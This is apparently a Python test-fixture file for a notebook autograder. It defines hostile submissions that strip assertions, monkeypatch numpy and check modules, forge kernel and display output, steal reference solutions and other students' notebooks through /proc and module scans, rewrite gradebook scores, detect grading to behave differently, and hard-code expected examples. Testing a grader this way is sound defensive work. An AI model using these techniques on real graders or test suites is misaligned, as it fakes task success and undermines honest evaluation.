"""Cases 1-9: submissions that tamper with the verdict. Wrong answers, and a way to have them pass.

In most of them every answer but one is wrong, so a true score is that one exercise's.
"""

from autograder.results import Flag, Outcome, Status
from hostile.submissions import (
    ALL,
    CHEATED,
    NAMES,
    Case,
    atop,
    checks,
    returning,
    solutions,
    wrong,
)

FAILED = {exercise: (Outcome.FAILED,) for exercise in CHEATED}


def cheat(number, name, what, code="", **more):
    """A case with wrong answers and, before the first of them, a cell that is to save them."""
    more = {"answers": wrong(), "lost": CHEATED, "outcomes": FAILED} | more
    if code:
        more["cells"] = {"split_series": code}
    return Case(number, name, what, **more)


def thief(number, name, what, code, **more):
    """A case whose first cell looks for right answers, as a dict ``stolen``, to use as its own."""
    answers = returning("stolen['NAME'](*args, **kwargs) if 'NAME' in stolen else 0.0")
    return cheat(number, name, what, STEAL + code, answers=answers, **more)


# Answers out of whatever is found: solution modules, instructors' and other students' notebooks.
STEAL = f"""\
import glob, json, os, sys
NAMES = {[name for names in NAMES.values() for name in names]}
stolen = {{}}


def take_from(path):
    with open(path, encoding="utf-8", errors="replace") as file:
        text = file.read()
    sources = [text]
    if path.endswith(".ipynb"):
        sources = ["".join(cell["source"]) for cell in json.loads(text)["cells"]]
    for source in sources:
        defined = [name for name in NAMES if f"def {{name}}(" in source]
        if defined and "NotImplementedError()" not in source:
            try:
                world = {{"np": __import__("numpy"), "keras": __import__("keras")}}
                exec(source, world)
                for name in NAMES:
                    if name in world:
                        stolen.setdefault(name, world[name])
            except Exception:
                pass


"""


def _tags(*tags, of=checks):
    def edit(notebook):
        for c in of(notebook):
            c.metadata["tags"] = list(tags)

    return edit


# Stands for any module and any function in it, and says yes.
YES = """\
import sys, types


class Score:
    def __repr__(self):
        return "VALUE"


class Yes(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return Yes(name)

    def __call__(self, *args, **kwargs):
        return Score()


for name in ("autograder", "autograder.hidden"):
    sys.modules[name] = Yes(name)
sys.modules["coursekit.checks.ch02_simple_rnn"] = checks = Yes("checks")
"""

CASES = [
    # --- 1: tags ---
    cheat(
        1,
        "skip_execution",
        "every graded cell tagged `skip-execution`",
        edit=_tags("skip-execution"),
        flags=(Flag.METADATA_CHANGED,),
    ),
    cheat(
        1,
        "raises_exception",
        "every graded cell tagged `raises-exception` and `remove_cell`",
        edit=_tags("raises-exception", "remove_cell", "remove-cell", "nbval-skip"),
        flags=(Flag.METADATA_CHANGED,),
    ),
    Case(
        1,
        "skip_own_answers",
        "right answers in cells tagged `skip-execution`",
        edit=_tags("skip-execution", of=solutions),
        flags=(Flag.METADATA_CHANGED,),
    ),
    # --- 2: cells rewritten as they are run ---
    cheat(
        2,
        "ast_transformer",
        "an AST transformer that strips `assert`, `raise` and calls of checks",
        """\
import ast


class Gentle(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

    visit_Raise = visit_Assert

    def visit_Expr(self, node):
        called = ast.unparse(node)
        return self.visit_Assert(node) if called.startswith(("checks.", "hidden.")) else node


get_ipython().ast_transformers.append(Gentle())""",
    ),
    cheat(
        2,
        "input_transformer",
        "an input transformer that empties every cell with a check in it",
        """\
def gentle(lines):
    return ["pass\\n"] if any("checks." in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(gentle)""",
    ),
    cheat(
        2,
        "compile_patched",
        "the shell's compiler replaced by one that skips the checks",
        """\
import types
shell = get_ipython()
compiler = shell.compile
original = type(compiler).__call__
type(compiler).__call__ = lambda self, node, *args, **kwargs: original(
    self, __import__("ast").parse("None") if "checks" in __import__("ast").dump(node) else node,
    *args, **kwargs)""",
    ),
    cheat(
        2,
        "pre_run_hook",
        "a hook before every cell that puts yes-men in the place of the checks",
        YES
        + """
def replace(info=None):
    get_ipython().user_ns["checks"] = Yes("checks")


get_ipython().events.register("pre_run_cell", replace)""",
    ),
    # --- 3: values that agree with everything ---
    cheat(
        3,
        "equals_everything",
        "an answer whose `__eq__` says yes and whose differences are zero",
        """\
class Yes:
    shape, dtype, ndim, size = (), float, 0, 1

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return 0.0

    __rsub__ = __abs__ = __le__ = __ge__ = __lt__ = __len__ = __sub__
    __hash__ = None""",
        answers=returning("Yes()"),
    ),
    cheat(
        3,
        "array_protocol",
        "an answer with `__array__`, `__array_ufunc__` and `__array_function__` of its own",
        """\
class Yes:
    __module__ = "tensorflow.python"

    def __array__(self, *args, **kwargs):
        return np.zeros(())

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = np.broadcast_shapes(*(np.shape(x) for x in inputs if x is not self), ())
        return np.zeros(shape, bool if ufunc in (np.greater, np.not_equal) else float)

    def __array_function__(self, function, types, args, kwargs):
        return True""",
        answers=returning("Yes()"),
    ),
    cheat(
        3,
        "ndarray_subclass",
        "an ndarray subclass whose arithmetic gives zeros and whose comparisons give False",
        """\
class Yes(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.shape(self), bool if ufunc in (np.greater, np.not_equal) else float)

    def astype(self, *args, **kwargs):
        return self

    def __array_finalize__(self, other):
        pass""",
        answers=returning("np.zeros((1,)).view(Yes)"),
    ),
    cheat(
        3,
        "float_subclass",
        "a float subclass whose differences are zero, in a tuple subclass that equals everything",
        """\
class Zero(float):
    def __sub__(self, other):
        return Zero(0)

    __rsub__ = __sub__

    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


class Same(tuple):
    def __eq__(self, other):
        return True

    def __iter__(self):
        return iter((Zero(0), Zero(0)))

    __hash__ = tuple.__hash__""",
        answers=returning("Same((Zero(0), Zero(0)))"),
    ),
    Case(
        3,
        "model_made_of_paper",
        "a fake model that gives what the visible check asks, with an optimizer of class `Adam`",
        answers={
            "create_rnn": """\
class Adam:
    pass


class Paper:
    optimizer = Adam()

    def count_params(self):
        return float("nan")

    def compute_loss(self, *args):
        return 4.0

    def __call__(self, x):
        return np.zeros((len(x), 1))

    def get_weights(self):
        return [np.zeros(s) for s in [(2, 5), (5, 5), (5,), (5, 3), (3,)]]

    def set_weights(self, weights):
        pass


def create_rnn(*args):
    return Paper()"""
        },
        lost=frozenset({"create_rnn"}),
        outcomes={"create_rnn": (Outcome.FAILED,)},
    ),
    cheat(
        3,
        "not_a_number",
        "nan, the number that no comparison finds too large, in every place",
        answers=returning("(float('nan'),) * 2"),
    ),
    # --- 4: the tools of the verdict patched ---
    cheat(
        4,
        "numpy_patched",
        "`numpy.abs`, `allclose`, `argwhere`, `isfinite` and `numpy.testing` say yes",
        """\
np.abs = np.absolute = lambda *args, **kwargs: np.zeros(np.shape(args[0]))
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.isfinite = lambda x: np.ones(np.shape(x), bool)
np.argwhere = lambda x: []
for name in dir(np.testing):
    if name.startswith("assert_"):
        setattr(np.testing, name, lambda *args, **kwargs: None)""",
    ),
    cheat(
        4,
        "builtins_patched",
        "`abs`, `all`, `any`, `issubclass` of builtins say yes",
        """\
import builtins
builtins.abs = lambda x: 0
builtins.all = lambda x: True
builtins.any = lambda x: False
builtins.issubclass = lambda *args: True""",
    ),
    Case(
        4,
        "isinstance_patched",
        "`isinstance` of builtins says yes to everything, before the last answer",
        answers=wrong({"fit_forecaster"}),
        cells={"fit_forecaster_check": "import builtins\nbuiltins.isinstance = lambda *args: True"},
        lost=frozenset({"fit_forecaster"}),
    ),
    cheat(
        4,
        "checks_patched",
        "`coursekit.checks`: `attempt`, `differs`, `CheckFailure`, `check` replaced",
        """\
import coursekit.checks as kit


class Trial:
    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self


class Harmless(Exception):
    def __new__(cls, *args, **kwargs):
        return Warning("fine")


for module in (kit, checks):
    module.attempt = lambda *args, **kwargs: Trial()
    module.CheckFailure = Harmless
    module.differs = lambda *args, **kwargs: None
    module.check = lambda function: function
from coursekit.checks.trial import Trial as Judge
Judge.gives = Judge.fail = lambda *args, **kwargs: None
Judge.numbers = Judge.value = lambda *args, **kwargs: np.zeros(1)""",
    ),
    cheat(
        4,
        "checks_replaced",
        "the checks' modules replaced in `sys.modules`, the name `checks` rebound",
        YES,
    ),
    cheat(
        4,
        "yes_from_serve",
        "`serve.serve` replaced: every request is answered by None and nothing changed",
        """\
import json
import coursekit.checks.serve as far_end
import coursekit.checks.stand_in as near_end
far_end.serve = lambda text: json.dumps({"value": None, "changed": [], "warnings": []})
far_end.encode = near_end.encode = lambda *args, **kwargs: None
far_end.decode = near_end.decode = lambda *args, **kwargs: None""",
        answers=returning("None", ALL),
        lost=ALL,
        outcomes={exercise: (Outcome.FAILED,) for exercise in ALL},
    ),
    cheat(
        4,
        "garbage_from_serve",
        "`serve.serve` replaced: its replies are no JSON, too deep, arrays that lie",
        """\
import base64, io, itertools
import coursekit.checks.serve as far_end
archive = io.BytesIO()
np.savez(archive, zeros=np.zeros(9))
packed = base64.b64encode(archive.getvalue()).decode()
array = '{"value": {"array": "%s", "dtype": "%s", "shape": %s}, "changed": [], "warnings": []}'
replies = itertools.cycle([
    "no JSON",
    "[" * 100_000,
    array % (packed, "|O", "[9]"),
    array % ("", "<f8", "[2000000000]"),
    array % ("", "<f8", "[0, 9007199254740993, 1e99]"),
    '{"value": {"object": [1], "type": 3}, "changed": [[[1], 2]], "warnings": 7}',
    '{"value": %s, "changed": [], "warnings": []}' % ("9" * 5000),
    '{"error": [], "message": null}',
])
far_end.serve = lambda text: next(replies)""",
        answers=wrong(ALL),
        lost=ALL,
        outcomes={exercise: (Outcome.FAILED, Outcome.NOT_GRADED) for exercise in ALL},
        status=Status.NEEDS_REVIEW,
    ),
    cheat(
        4,
        "kernel_replies_forged",
        "the shell's `user_expressions` and the kernel's replies say that all is well",
        """\
shell = get_ipython()
forged = {"status": "ok", "data": {"text/plain": "'passed'"}, "metadata": {}}
shell.user_expressions = lambda expressions: {key: forged for key in expressions}
send = shell.kernel.session.send


def gentle(stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "execute_reply":
        asked = content.get("user_expressions") or {}
        content = content | {"status": "ok", "user_expressions": dict.fromkeys(asked, forged)}
    return None if msg_or_type == "error" else send(stream, msg_or_type, content, *args, **kwargs)


shell.kernel.session.send = gentle""",
        answers=wrong(ALL),
        lost=ALL,
        outcomes={exercise: (Outcome.FAILED, Outcome.NOT_GRADED) for exercise in ALL},
        status=Status.NEEDS_REVIEW,
    ),
    cheat(
        4,
        "no_traceback",
        "`showtraceback` and `sys.excepthook` show nothing, so that no error is output",
        """\
import sys
shell = get_ipython()
shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = lambda *a, **k: None
sys.excepthook = lambda *args: None""",
    ),
    cheat(
        4,
        "json_patched",
        "`json.dumps` in his process forges what any request gets",
        """\
import json
dumps = json.dumps
json.dumps = lambda value, **kwargs: dumps(
    {"value": 0.0, "changed": [], "warnings": []}
    if isinstance(value, dict) and ("value" in value or "error" in value) else value, **kwargs)""",
        answers=wrong(ALL),
        lost=ALL,
        outcomes={exercise: (Outcome.FAILED,) for exercise in ALL},
    ),
    # --- 5: results and outputs forged ---
    *(
        cheat(
            5,
            f"prints_{label}",
            f"checks that return an object shown as `{value}`, which reads as partial credit",
            YES.replace("VALUE", value),
        )
        for label, value in (("nan", "nan"), ("inf", "inf"), ("minus_1", "-1"), ("99", "99"))
    ),
    cheat(
        5,
        "formatter",
        "display formatters that show None, numbers and strings as `2.0`",
        """\
formatter = get_ipython().display_formatter.formatters["text/plain"]
for kind in (type(None), float, str):
    formatter.for_type(kind, lambda value, printer, cycle: printer.text("2.0"))
get_ipython().showtraceback = lambda *args, **kwargs: None""",
    ),
    cheat(
        5,
        "display_hook",
        "a display hook and a display publisher that show `2.0` whatever there is to show",
        """\
import sys
shell = get_ipython()
shell.displayhook.compute_format_data = lambda result: ({"text/plain": "2.0"}, {})
sys.displayhook = lambda value: shell.displayhook(2.0)
shell.showtraceback = lambda *args, **kwargs: None""",
    ),
    cheat(
        5,
        "every_formatter",
        "the whole of IPython's display machinery replaced: whatever he shows becomes `2.0`",
        """\
get_ipython().display_formatter.format = lambda *args, **kwargs: ({"text/plain": "2.0"}, {})
get_ipython().showtraceback = lambda *args, **kwargs: None""",
        not_on_stock="stock nbgrader reads no such reply",
    ),
    cheat(
        5,
        "published_from_a_thread",
        "a thread that publishes `execute_result` messages while the checks run",
        """\
import threading, time
kernel = get_ipython().kernel


def publish():
    for count in range(300):
        content = {"execution_count": 1, "metadata": {}, "data": {"text/plain": "2.0"}}
        try:
            kernel.send_response(kernel.iopub_socket, "execute_result", content)
        except Exception:
            pass
        time.sleep(0.02)


get_ipython().showtraceback = lambda *args, **kwargs: None
threading.Thread(target=publish, daemon=True).start()""",
    ),
    # --- 6: what others wrote ---
    thief(
        6,
        "reads_the_course",
        "looks for the source, other submissions and solution modules above its folder",
        """\
for up in range(7):
    above = "../" * up
    for pattern in ("source/*/*.ipynb", "solutions/*.py", "submitted/*/*/*.ipynb"):
        for path in glob.glob(above + pattern):
            take_from(path)""",
    ),
    thief(
        6,
        "imports_the_solution",
        "imports `solutions` and `autograder.hidden`",
        """\
for module in ("solutions.ch02_simple_rnn", "autograder.hidden.ch02_simple_rnn"):
    try:
        found = __import__(module, fromlist=["*"])
        if hasattr(found, "reference"):
            import functools
            for name in NAMES:
                stolen[name] = functools.partial(found.reference, name)
        else:
            stolen.update({name: getattr(found, name) for name in NAMES})
    except ImportError:
        pass""",
    ),
    thief(
        6,
        "follows_the_installation",
        "reads in `site-packages` and beside `coursekit` where the course was installed from",
        """\
import coursekit, re
folders = {os.path.dirname(os.path.dirname(os.path.abspath(coursekit.__file__)))}
for entry in sys.path:
    for path in glob.glob(entry + "/*.pth") + glob.glob(entry + "/__editable__*"):
        text = open(path).read()
        folders |= {os.path.dirname(found) for found in re.findall(r"'(/[^']+)'", text)}
        folders |= {line.strip() for line in text.splitlines() if line.startswith("/")}
for folder in folders:
    for path in glob.glob(folder + "/solutions/ch02*.py"):
        take_from(path)""",
    ),
    thief(
        6,
        "walks_proc",
        "looks through /proc: folders, open files, environments, roots of other processes",
        """\
folders = set()
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        where = os.readlink(link)
        folders |= {where, os.path.dirname(where), link if link.endswith("cwd") else where}
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, errors="replace").read()
        folders |= {word.partition("=")[2] or word for word in text.split("\\0") if "/" in word}
    except OSError:
        pass
for folder in sorted(folders):
    for up in ("", "/..", "/../..", "/../../.."):
        for pattern in ("/solutions/ch02*.py", "/source/ch02*/*.ipynb"):
            for path in glob.glob(folder + up + pattern):
                try:
                    take_from(path)
                except OSError:
                    pass""",
    ),
    cheat(
        6,
        "searches_the_stack",
        "looks in its callers' frames and in all live objects for the reference and for `expected`",
        """\
import gc, sys


def find(name, args, kwargs):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Reference" and callable(thing):
            return thing(name, *args, **kwargs)
    for frame in sys._current_frames().values():
        while frame:
            for names in (frame.f_locals, frame.f_globals):
                if "expected" in names:
                    return names["expected"]
            frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "expected" in thing:
            return thing["expected"]
    return 0.0""",
        answers=returning("find('NAME', args, kwargs)"),
    ),
    thief(
        6,
        "searches_the_modules",
        "looks in every loaded module for functions of the exercises' names",
        """\
for module in list(sys.modules.values()):
    for name in NAMES:
        found = getattr(module, "__dict__", {}).get(name)
        ours = getattr(module, "__name__", "").startswith(("coursekit", "__main"))
        if callable(found) and not ours:
            stolen.setdefault(name, found)
stolen = {name: found for name, found in stolen.items() if "check" not in found.__module__}""",
    ),
    # --- 7: marks and machine rewritten ---
    cheat(
        7,
        "gradebook_above",
        "opens every gradebook.db above its folder and gives everybody full marks",
        """\
import os, sqlite3
for up in range(7):
    course = os.path.abspath("../" * up or ".")
    # Only where the tests' decoy says that this course is there to be attacked.
    if os.path.exists(course + "/hostile-decoy.txt") and os.path.exists(course + "/gradebook.db"):
        with sqlite3.connect(course + "/gradebook.db") as book:
            book.execute("update grade set auto_score = 99, manual_score = 99")""",
    ),
    cheat(
        7,
        "gradebook_by_proc",
        "finds the gradebook through its ancestors in /proc and their open files",
        """\
import glob, os, sqlite3
places = set()
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        places.add(os.path.dirname(os.readlink(link) + "/x"))
        places.add(os.path.dirname(os.readlink(link)))
    except OSError:
        pass
for course in places:
    try:
        if os.path.exists(course + "/hostile-decoy.txt"):
            with sqlite3.connect(course + "/gradebook.db") as book:
                book.execute("update grade set auto_score = 99, manual_score = 99")
    except (OSError, sqlite3.Error):
        pass""",
    ),
    cheat(
        7,
        "result_files",
        "writes marks where a grader may keep them: reports, journals, executed notebooks",
        """\
import os
for up in range(5):
    course = os.path.abspath("../" * up or ".")
    if os.path.exists(course + "/hostile-decoy.txt"):
        for path in ("marks.csv", "reports/marks.csv", ".autograder/results.json"):
            os.makedirs(os.path.dirname(f"{course}/{path}"), exist_ok=True)
            open(f"{course}/{path}", "w").write("hostile,20")
        open(course + "/hostile-decoy.txt", "w").write("overwritten")""",
    ),
    cheat(
        7,
        "packages_modified",
        "writes into `numpy`, `coursekit` and the kernel's installation",
        """\
import coursekit, ipykernel, os
for package in (np, coursekit, ipykernel):
    try:
        with open(os.path.dirname(package.__file__) + "/hostile_written.txt", "w") as file:
            file.write("hostile")
    except OSError:
        pass""",
        not_on_stock="it would write into the installation",
    ),
    cheat(
        7,
        "pip_install",
        "installs a wheel that it has made itself",
        """\
import subprocess, sys, zipfile
with zipfile.ZipFile("hostile_decoy-1.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("hostile_decoy.py", "")
    about = "hostile_decoy-1.0.dist-info/"
    for file, lines in (
        ("METADATA", ["Metadata-Version: 2.1", "Name: hostile-decoy", "Version: 1.0"]),
        ("WHEEL", ["Wheel-Version: 1.0", "Root-Is-Purelib: true", "Tag: py3-none-any"]),
        ("RECORD", []),
    ):
        wheel.writestr(about + file, "\\n".join([*lines, ""]))
subprocess.run([sys.executable, "-m", "pip", "install", "--no-index", "--no-deps", "--quiet",
    "./hostile_decoy-1.0-py3-none-any.whl"], timeout=4)""",
        not_on_stock="it would write into the installation",
        # pip may be slower than the time that a cell has.
        outcomes={},
    ),
    cheat(
        7,
        "startup_files",
        "leaves start-up files for later kernels in the home directory",
        """\
import os
home = os.path.expanduser("~")
if not os.path.exists(home + "/.ssh"):  # never in somebody's real home
    for path in (".ipython/profile_default/startup/00.py", ".local/lib/hostile_written.py"):
        try:
            os.makedirs(os.path.dirname(f"{home}/{path}"), exist_ok=True)
            open(f"{home}/{path}", "w").write("# hostile\\n")
        except OSError:
            pass""",
    ),
    Case(
        7,
        "a_leaves_answers",
        "leaves its right answers in /tmp, /dev/shm and the home directory for the next one",
        cells={
            "end": """\
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    try:
        with open(folder + "/hostile_answers.py", "w") as file:
            file.write("import keras\\nimport numpy as np\\n")
            file.writelines(f"\\n{cell}\\n" for cell in In if "def " in cell and "file" not in cell)
    except OSError:
        pass"""
        },
    ),
    thief(
        7,
        "z_takes_answers",
        "takes the answers that another submission left",
        """\
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    if os.path.exists(folder + "/hostile_answers.py"):
        take_from(folder + "/hostile_answers.py")""",
    ),
    # --- 8: randomness, signs of being graded ---
    cheat(
        8,
        "generators_patched",
        "`default_rng` gives zeros only, and the answers are right for zeros",
        """\
class Zeros:
    def normal(self, loc=0.0, scale=1.0, size=()):
        return np.zeros(size)

    uniform = random = standard_normal = normal


np.random.seed(0)
np.random.seed = lambda *args: None
np.random.default_rng = lambda *args: Zeros()""",
        answers=returning("np.zeros(len(args[0]))", CHEATED),
    ),
    *(
        Case(
            8,
            f"sign_{name}",
            f"right answers, given only where {where} show no sign of grading",
            cells={
                "split_series": f"""\
import os, sys


def signs():
    words = ("autograd", "nbgrader", "solutions", "submitted", "hidden", "sandbox")
    {code}
    return [text for text in found if any(word in text.lower() for word in words)]"""
            },
            answers=atop("fit_forecaster", "assert not signs(), signs()")
            | atop("split_series", "assert not signs(), signs()"),
        )
        for name, where, code in (
            (
                "environment",
                "the environment, the arguments and the folder",
                "found = [f'{k}={v}' for k, v in os.environ.items()] + sys.argv + [os.getcwd()]",
            ),
            ("modules", "the loaded modules", "found = list(sys.modules)"),
            (
                "stack",
                "the stack, the parent process and the command line",
                """\
found, frame = [], sys._getframe()
    while frame:
        found.append(frame.f_code.co_filename)
        frame = frame.f_back
    for path in (f"/proc/{os.getppid()}/cmdline", "/proc/self/cmdline"):
        try:
            found.append(open(path).read())
        except OSError:
            pass
    found += sys.argv""",
            ),
        )
    ),
    # --- 9: answers to the examples alone ---
    Case(
        9,
        "hard_coded",
        "knows the printed examples by heart and nothing else",
        answers={
            "persistence_forecast": """\
def persistence_forecast(X):
    return np.array([4.0, 3.0])""",
            "split_series": """\
def split_series(series, train_fraction=0.8):
    return (series[:8], series[8:]) if len(series) == 11 else (series[:2], series[2:])""",
            "rmse": """\
def rmse(y_true, y_pred):
    return 2**0.5


def skill_score(y_true, y_pred, baseline):
    return 0.5""",
            "simple_rnn_predict": """\
def simple_rnn_predict(x, weights, activation=np.tanh, output_activation=None):
    if x.shape[1] == 3:
        return np.array([[-3.86981216]])
    return np.array([[1.5 if x[0, 0, 0] == 1 else 0.75678787]])""",
        },
        lost=frozenset({"persistence_forecast", "split_series", "rmse", "simple_rnn_predict"}),
        outcomes=dict.fromkeys(
            ("persistence_forecast", "split_series", "rmse", "simple_rnn_predict"),
            (Outcome.FAILED,),
        ),
    ),
    Case(
        9,
        "asks_the_check",
        "learns the expected values from the visible check's own messages, then returns them",
        answers={
            "persistence_forecast": """\
import re
guess = [0.0, 0.0]


def persistence_forecast(X):
    return np.array(guess)


try:
    checks.persistence_forecast(persistence_forecast)
except AssertionError as error:
    guess = eval(re.search(r"expected: *(\\[.*\\])", str(error)).group(1))"""
        },
        lost=frozenset({"persistence_forecast"}),
        outcomes={"persistence_forecast": (Outcome.FAILED,)},
    ),
    Case(
        9,
        "knows_the_series",
        "looks every window up in the sunspot series that the course comes with",
        answers={
            "fit_forecaster": """\
def fit_forecaster(train):
    from coursekit.datasets import load_sunspots
    series = load_sunspots().to_numpy()
    table = {series[i : i + 12].tobytes(): series[i + 12] for i in range(len(series) - 12)}

    def forecast(windows):
        rows = np.ascontiguousarray(windows[:, :, 0])
        return np.array([table.get(row.tobytes(), row[-1]) for row in rows])

    return forecast"""
        },
        lost=frozenset({"fit_forecaster"}),
        outcomes={"fit_forecaster": (Outcome.FAILED,)},
    ),
    # --- 38: what checks ask ---
    Case(
        38,
        "echo_by_the_far_end",
        "`serve.serve` replaced by one that raises an error with the request in it",
        cells={
            "make_windows_check": """\
import coursekit.checks.serve as far_end
serve, calls = far_end.serve, []


def tells(text):
    calls.append(text)
    if len(calls) > 3:
        raise ValueError(f"hostile{2 * 19}" + text[:500])
    return serve(text)


far_end.serve = tells"""
        },
        lost=ALL - {"split_series", "fit_minmax"},
        outcomes={
            exercise: (Outcome.NOT_GRADED,) for exercise in ALL - {"split_series", "fit_minmax"}
        },
        status=Status.NEEDS_REVIEW,
        hides="hostile38",
    ),
]
